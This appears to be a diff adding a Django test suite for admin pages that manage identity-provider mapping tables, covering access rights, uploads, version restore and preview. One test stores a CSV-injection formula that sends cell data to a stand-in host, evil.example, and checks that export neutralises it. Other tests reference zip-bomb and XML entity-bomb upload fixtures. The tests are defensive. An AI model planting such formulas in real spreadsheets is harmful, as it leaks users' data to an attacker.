@@ -1,0 +1,440 @@
+"""The mapping pages in the admin: who may do what, uploads that lose nothing, preview."""
+
+import io
+import json
+from pathlib import Path
+
+import openpyxl
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.urls import reverse
+
+from integrations.mapping.store import mapping_rules_for, mapping_table_import
+from integrations.models import MappingRule, MappingTableVersion
+from tests.factories import OAuthIntegrationFactory
+from tests.integrations.mapping_files import (
+    BILLION_LAUGHS,
+    GOOD_ROWS,
+    HEADER,
+    csv_bytes,
+    xlsx_bytes,
+    xlsx_with_part,
+    zip_bomb,
+)
+
+FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
+TABLES = FIXTURES / "mapping-tables"
+
+
+@pytest.fixture
+def integration(account):
+    return OAuthIntegrationFactory(account=account)
+
+
+@pytest.fixture
+def other_integration(other_account):
+    return OAuthIntegrationFactory(account=other_account)
+
+
+@pytest.fixture
+def mapped(integration, staff_user):
+    """The integration with the keycloak table as its current mapping."""
+    data = (TABLES / "keycloak-good.csv").read_bytes()
+    outcome = mapping_table_import(
+        integration=integration, user=staff_user, filename="keycloak-good.csv", data=data
+    )
+    assert outcome.status == "saved", outcome
+    return integration
+
+
+def url(name, integration, *args):
+    return reverse(f"admin:integrations_mapping_{name}", args=[integration.pk, *args])
+
+
+def upload(client, integration, filename, data):
+    return client.post(
+        url("upload", integration), {"table": SimpleUploadedFile(filename, data)}, follow=True
+    )
+
+
+def rule_rows(integration):
+    return list(
+        integration.mapping_rules.values_list(
+            "target", "source", "transform", "fallback", "required"
+        )
+    )
+
+
+# ---------------------------------------------------------------------------- permissions
+@pytest.mark.django_db
+@pytest.mark.parametrize("page", ["overview", "preview"])
+def test_staff_and_the_accounts_administrators_see_the_mapping_pages(
+    client, staff_user, admin_user_a, mapped, page
+):
+    for user in (staff_user, admin_user_a):
+        client.force_login(user)
+        response = client.get(url(page, mapped))
+        assert response.status_code == 200
+        assert b"address.postal_code" in response.content or page == "preview"
+
+
+@pytest.mark.django_db
+def test_administrators_see_no_upload_form_and_cannot_upload_or_restore(
+    client, admin_user_a, mapped
+):
+    client.force_login(admin_user_a)
+    assert b'enctype="multipart/form-data"' not in client.get(url("overview", mapped)).content
+    before = rule_rows(mapped)
+    response = client.post(
+        url("upload", mapped), {"table": SimpleUploadedFile("t.csv", csv_bytes(GOOD_ROWS))}
+    )
+    assert response.status_code == 403
+    version = mapped.mapping_versions.get()
+    assert client.post(url("restore", mapped, version.pk)).status_code == 403
+    assert rule_rows(mapped) == before
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("user_fixture", ["editor_a", "admin_user_b"])
+def test_editors_and_other_accounts_get_404_on_every_mapping_page(
+    client, request, mapped, user_fixture
+):
+    client.force_login(request.getfixturevalue(user_fixture))
+    version = mapped.mapping_versions.get()
+    for response in [
+        client.get(url("overview", mapped)),
+        client.get(url("preview", mapped)),
+        client.post(url("preview", mapped), {"profile_json": "{}"}),
+        client.get(url("template", mapped, "csv")),
+        client.get(url("template", mapped, "xlsx")),
+        client.post(url("upload", mapped), {"table": SimpleUploadedFile("t.csv", b"x")}),
+        client.post(url("restore", mapped, version.pk)),
+    ]:
+        assert response.status_code == 404
+
+
+@pytest.mark.django_db
+def test_rules_admin_is_read_only_for_administrators_and_scoped(
+    client, admin_user_a, mapped, other_integration, staff_user
+):
+    mapping_table_import(
+        integration=other_integration,
+        user=staff_user,
+        filename="b.csv",
+        data=csv_bytes([["city", "b_only_claim", "", "", "no", ""]]),
+    )
+    client.force_login(admin_user_a)
+    changelist = client.get(reverse("admin:integrations_mappingrule_changelist"))
+    assert changelist.status_code == 200
+    assert b"address.postal_code" in changelist.content
+    assert b"b_only_claim" not in changelist.content
+    assert client.get(reverse("admin:integrations_mappingrule_add")).status_code == 403
+    rule = mapped.mapping_rules.get(target="city")
+    change_url = reverse("admin:integrations_mappingrule_change", args=[rule.pk])
+    page = client.get(change_url)
+    assert page.status_code == 200 and b'name="source"' not in page.content  # read-only view
+    response = client.post(change_url, {"integration": mapped.pk, "target": "city", "source": "x"})
+    assert response.status_code == 403
+    other_rule = other_integration.mapping_rules.get()
+    other_url = reverse("admin:integrations_mappingrule_change", args=[other_rule.pk])
+    assert client.get(other_url).status_code in (302, 404)
+    assert MappingRule.objects.get(pk=rule.pk).source == "address.locality"
+
+
+@pytest.mark.django_db
+def test_editors_see_no_mapping_admin(client, editor_a, mapped):
+    client.force_login(editor_a)
+    assert client.get(reverse("admin:integrations_mappingrule_changelist")).status_code == 403
+    assert (
+        client.get(reverse("admin:integrations_mappingtableversion_changelist")).status_code == 403
+    )
+
+
+# ---------------------------------------------------------------------------- uploads
+@pytest.mark.django_db
+def test_staff_upload_replaces_the_rules_and_records_a_version(client, staff_user, mapped):
+    client.force_login(staff_user)
+    response = upload(client, mapped, "../../new table.xlsx", xlsx_bytes(GOOD_ROWS))
+    assert b"3 rule(s) from new table.xlsx are now the mapping" in response.content
+    assert rule_rows(mapped) == [
+        ("firstname", "given_name", "strip", "", True),
+        ("email", "email", "strip|lower", "", True),
+        ("country", "address.country", "country", "", False),
+    ]
+    current = mapped.mapping_versions.get(is_current=True)
+    assert (current.filename, current.uploaded_by, len(current.rules)) == (
+        "new table.xlsx",
+        staff_user,
+        3,
+    )
+    assert mapped.mapping_versions.count() == 2
+
+
+@pytest.mark.django_db
+def test_reuploading_the_same_file_changes_nothing(client, staff_user, mapped):
+    client.force_login(staff_user)
+    response = upload(client, mapped, "again.csv", (TABLES / "keycloak-good.csv").read_bytes())
+    assert b"nothing changed" in response.content
+    assert mapped.mapping_versions.count() == 1
+
+
+@pytest.mark.django_db
+def test_broken_table_shows_every_error_and_keeps_the_rules(client, staff_user, mapped):
+    client.force_login(staff_user)
+    before = rule_rows(mapped)
+    response = upload(client, mapped, "broken.csv", (TABLES / "broken.csv").read_bytes())
+    assert response.status_code == 200
+    content = response.content.decode()
+    assert "10 row(s) of broken.csv have errors; nothing was saved." in content
+    for line in [2, 4, 5, 6, 7, 9, 10, 11, 12, 13]:
+        assert f"<tr><td>{line}</td>" in content
+    assert "<tr><td>8</td>" not in content and "<tr><td>3</td>" not in content
+    assert rule_rows(mapped) == before
+    assert mapped.mapping_versions.count() == 1
+
+
+def _zip_entity_bomb():
+    return xlsx_with_part(xlsx_bytes(GOOD_ROWS), "xl/worksheets/sheet1.xml", BILLION_LAUGHS)
+
+
+BAD_UPLOADS = [
+    ("empty.csv", b"", "The file is empty."),
+    ("header.csv", csv_bytes([]), "header but no rules"),
+    ("cols.csv", csv_bytes([], header=["FIELD", "Source", "notes"]), "missing column(s)"),
+    ("extra.csv", csv_bytes([], header=[*reversed(HEADER), "Colour"]), "unknown column(s): colour"),
+    (
+        "ansi.csv",
+        csv_bytes([["lastname", "nom", "", "", "yes", "Müller"]], encoding="cp1252"),
+        "not UTF-8",
+    ),
+    (
+        "wide.csv",
+        csv_bytes(GOOD_ROWS).decode().encode("utf-16-le"),
+        "UTF-16 without a byte-order mark",
+    ),
+    ("program.xlsx", b"MZ\x90\x00" + bytes(range(256)) * 8, "not a ZIP archive"),
+    ("program.csv", b"MZ\x90\x00" + bytes(range(256)) * 8, "NUL"),
+    ("macro.xlsm", xlsx_bytes(GOOD_ROWS), ".xlsm files are not accepted"),
+    ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, ".xls files are not accepted"),
+    ("bomb.xlsx", None, "expands to 60 MB"),
+    ("laughs.xlsx", None, "unsafe XML"),
+]
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    ("filename", "data", "message"), BAD_UPLOADS, ids=[b[0] for b in BAD_UPLOADS]
+)
+def test_bad_uploads_get_a_clear_message_and_lose_nothing(
+    client, staff_user, mapped, filename, data, message
+):
+    if filename == "bomb.xlsx":
+        data = zip_bomb()
+    elif filename == "laughs.xlsx":
+        data = _zip_entity_bomb()
+    client.force_login(staff_user)
+    before = rule_rows(mapped)
+    response = upload(client, mapped, filename, data)
+    assert response.status_code == 200
+    assert message in response.content.decode()
+    assert rule_rows(mapped) == before
+    assert mapped.mapping_versions.count() == 1
+
+
+@pytest.mark.django_db
+def test_an_upload_over_the_size_cap_is_refused_before_reading(
+    client, staff_user, mapped, settings
+):
+    settings.MAPPING_UPLOAD_MAX_BYTES = 1024
+    client.force_login(staff_user)
+    before = rule_rows(mapped)
+    data = csv_bytes([[f"custom_{i}", "claim", "", "", "no", "x" * 50] for i in range(40)])
+    response = upload(client, mapped, "big.csv", data)
+    assert (
+        "the limit is 0.0 MB" in response.content.decode()
+        or "limit is" in response.content.decode()
+    )
+    assert rule_rows(mapped) == before
+
+
+@pytest.mark.django_db
+def test_a_failure_at_row_5000_of_10000_keeps_the_previous_rules(client, staff_user, mapped):
+    rows = [[f"custom_{i:05d}", f"claims[{i}]", "", "", "no", ""] for i in range(10_000)]
+    rows[4_999][2] = "capitalize"
+    client.force_login(staff_user)
+    before = rule_rows(mapped)
+    response = upload(client, mapped, "big.csv", csv_bytes(rows))
+    assert "<tr><td>5001</td>" in response.content.decode()
+    assert rule_rows(mapped) == before
+
+
+@pytest.mark.django_db
+def test_ten_thousand_rows_import(client, staff_user, mapped):
+    rows = [[f"custom_{i:05d}", f"claims[{i}]", "strip", "", "no", ""] for i in range(10_000)]
+    client.force_login(staff_user)
+    response = upload(client, mapped, "big.csv", csv_bytes(rows))
+    assert b"10000 rule(s)" in response.content
+    assert mapped.mapping_rules.count() == 10_000
+
+
+@pytest.mark.django_db
+def test_formulas_are_stored_as_text_and_neutralised_on_export(
+    client, staff_user, admin_user_a, integration
+):
+    client.force_login(staff_user)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")'
+    upload(
+        client,
+        integration,
+        "f.csv",
+        csv_bytes([["lastname", "family_name", "", "", "yes", formula]]),
+    )
+    assert integration.mapping_rules.get().notes == formula
+
+    client.force_login(admin_user_a)
+    exported = client.get(url("template", integration, "csv"))
+    assert exported["Content-Disposition"] == f'attachment; filename="mapping-{integration.pk}.csv"'
+    assert b"'=HYPERLINK" in exported.content
+    xlsx = client.get(url("template", integration, "xlsx"))
+    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
+    assert sheet["F2"].value == "'" + formula
+
+
+@pytest.mark.django_db
+def test_template_without_rules_is_a_valid_starter_table(
+    client, admin_user_a, integration, staff_user
+):
+    client.force_login(admin_user_a)
+    response = client.get(url("template", integration, "xlsx"))
+    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
+    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
+    assert workbook.sheetnames == ["Mapping", "Reference"]
+    # Sent back as is, it uploads.
+    client.force_login(staff_user)
+    upload(client, integration, "starter.xlsx", response.content)
+    assert integration.mapping_rules.count() == 10
+    assert client.get(url("template", integration, "pdf")).status_code == 404
+
+
+@pytest.mark.django_db
+def test_restore_an_earlier_version(client, staff_user, mapped):
+    client.force_login(staff_user)
+    first = mapped.mapping_versions.get()
+    upload(client, mapped, "new.csv", csv_bytes(GOOD_ROWS))
+    assert mapped.mapping_rules.count() == 3
+
+    response = client.post(url("restore", mapped, first.pk), follow=True)
+
+    assert b"is the mapping again" in response.content
+    assert mapped.mapping_rules.count() == 12
+    assert mapped.mapping_versions.count() == 3
+    current = mapped.mapping_versions.get(is_current=True)
+    assert current.filename.startswith("restored: keycloak-good.csv")
+    # The restored version's file, uploaded again, changes nothing.
+    upload(client, mapped, "keycloak-good.csv", (TABLES / "keycloak-good.csv").read_bytes())
+    assert mapped.mapping_versions.count() == 3
+    assert client.get(url("restore", mapped, first.pk)).status_code == 405
+
+
+@pytest.mark.django_db
+def test_staff_edit_a_rule_in_the_admin_and_it_is_a_new_version(client, staff_user, mapped):
+    client.force_login(staff_user)
+    rule = mapped.mapping_rules.get(target="city")
+    change_url = reverse("admin:integrations_mappingrule_change", args=[rule.pk])
+    form = {
+        "integration": mapped.pk,
+        "target": "city",
+        "source": "address.locality",
+        "transform": "strip|upper",
+        "fallback": "",
+        "notes": "",
+    }
+    bad = client.post(change_url, {**form, "transform": "capitalize"})
+    assert bad.status_code == 200 and "unknown transform" in bad.content.decode()
+    assert client.post(change_url, form).status_code == 302
+    assert MappingRule.objects.get(pk=rule.pk).transform == "strip|upper"
+    current = mapped.mapping_versions.get(is_current=True)
+    assert current.filename == "edited in the admin"
+    assert {
+        "target": "city",
+        "source": "address.locality",
+        "transform": "strip|upper",
+        "fallback": "",
+        "required": False,
+        "notes": "",
+    } in current.rules
+    duplicate = client.post(
+        reverse("admin:integrations_mappingrule_add"), {**form, "transform": ""}
+    )
+    assert duplicate.status_code == 200 and MappingRule.objects.filter(target="city").count() == 1
+
+
+@pytest.mark.django_db
+def test_history_changelist_is_read_only(client, admin_user_a, mapped):
+    client.force_login(admin_user_a)
+    response = client.get(reverse("admin:integrations_mappingtableversion_changelist"))
+    assert response.status_code == 200 and b"keycloak-good.csv" in response.content
+    version = mapped.mapping_versions.get()
+    delete_url = reverse("admin:integrations_mappingtableversion_delete", args=[version.pk])
+    assert client.post(delete_url, {"post": "yes"}).status_code == 403
+    assert MappingTableVersion.objects.count() == 1
+
+
+# ---------------------------------------------------------------------------- preview
+@pytest.mark.django_db
+def test_preview_a_pasted_fixture_profile(client, admin_user_a, mapped):
+    client.force_login(admin_user_a)
+    profile = (FIXTURES / "idp-profiles" / "keycloak.json").read_text()
+    response = client.post(url("preview", mapped), {"profile_json": profile})
+    content = response.content.decode()
+    assert response.status_code == 200
+    assert "<strong>1987-03-14</strong>" in content
+    assert "<strong>+32470123456</strong>" in content
+    assert "<strong>BE</strong>" in content
+
+
+@pytest.mark.django_db
+def test_preview_plain_claims_shows_problems(client, staff_user, mapped):
+    client.force_login(staff_user)
+    claims = {"given_name": "Zoë", "birthdate": "1987-03-14", "email": "<b>z@example.be</b>"}
+    response = client.post(url("preview", mapped), {"profile_json": json.dumps(claims)})
+    content = response.content.decode()
+    assert "<strong>Zoë</strong>" in content
+    assert "transform_failed" in content  # birthdate is not DD/MM/YYYY
+    assert "missing_required" in content  # no family_name
+    assert "<b>z@example.be</b>" not in content  # escaped
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    ("data", "message"),
+    [
+        ({"profile_json": "{not json"}, "This is not valid JSON"),
+        ({"profile_json": "[1, 2]"}, "This is not a profile"),
+        ({"profile_json": ""}, "Paste a profile"),
+        ({"profile_json": "", "use_last_test": "on"}, "There is no test login profile yet."),
+    ],
+)
+def test_preview_form_errors(client, staff_user, mapped, data, message):
+    client.force_login(staff_user)
+    response = client.post(url("preview", mapped), data)
+    assert response.status_code == 200 and message in response.content.decode()
+
+
+@pytest.mark.django_db
+def test_preview_with_the_last_test_login_profile(client, staff_user, mapped):
+    mapped.last_test_profile = json.dumps(
+        {"userinfo": {"given_name": "Test", "family_name": "Login", "email": "t@example.be"}}
+    )
+    mapped.save()
+    client.force_login(staff_user)
+    page = client.get(url("preview", mapped))
+    assert b"use_last_test" in page.content
+    response = client.post(url("preview", mapped), {"profile_json": "", "use_last_test": "on"})
+    assert "<strong>Login</strong>" in response.content.decode()
+
+
+@pytest.mark.django_db
+def test_rules_for_an_integration_are_ready_for_mapping_apply(mapped):
+    rules = mapping_rules_for(integration=mapped)
+    assert [rule.target for rule in rules][:3] == ["firstname", "lastname", "email"]
